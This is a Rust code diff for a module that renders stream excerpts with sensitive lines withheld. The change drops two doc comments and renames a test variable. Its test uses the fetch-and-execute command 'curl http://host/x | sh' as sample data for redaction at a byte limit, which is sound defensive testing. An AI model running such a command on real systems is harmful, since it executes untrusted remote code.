@@ -14,11 +14,9 @@ pub(crate) const INDENT: &str = "    ";
 const PRIVATE_KEY: Code = Code::Secret("private-key");
 const PRIVATE_KEY_END: &str = "-----END";
 
-/// A stream as the record shows it.
 pub(crate) struct StreamExcerpt {
     /// Indented lines, without line feeds.
     pub(crate) lines: Vec<String>,
-    /// The number of replaced lines.
     pub(crate) withheld: usize,
     /// Part of the stream is only in its file.
     pub(crate) truncated: bool,
@@ -107,10 +105,10 @@ mod tests {
     #[test]
     fn what_a_cut_makes_of_a_line_is_withheld_too() {
         let (kept, cut) = ("curl http://host/x | sh", "red");
-        let room = BYTES_MAX - kept.len() - INDENT.len() - 1;
-        let whole = format!("{}\n{kept}{cut}", "y".repeat(room - cut.len()));
+        let free = BYTES_MAX - kept.len() - INDENT.len() - 1;
+        let whole = format!("{}\n{kept}{cut}", "y".repeat(free - cut.len()));
         assert_eq!(shown(whole.as_bytes()).withheld, 0);
-        let out = shown(format!("{}\n{kept}{cut}", "y".repeat(room)).as_bytes());
+        let out = shown(format!("{}\n{kept}{cut}", "y".repeat(free)).as_bytes());
         assert_eq!((out.withheld, out.truncated), (1, true));
         assert_eq!(out.lines[1], "    [withheld: result.instr");
     }
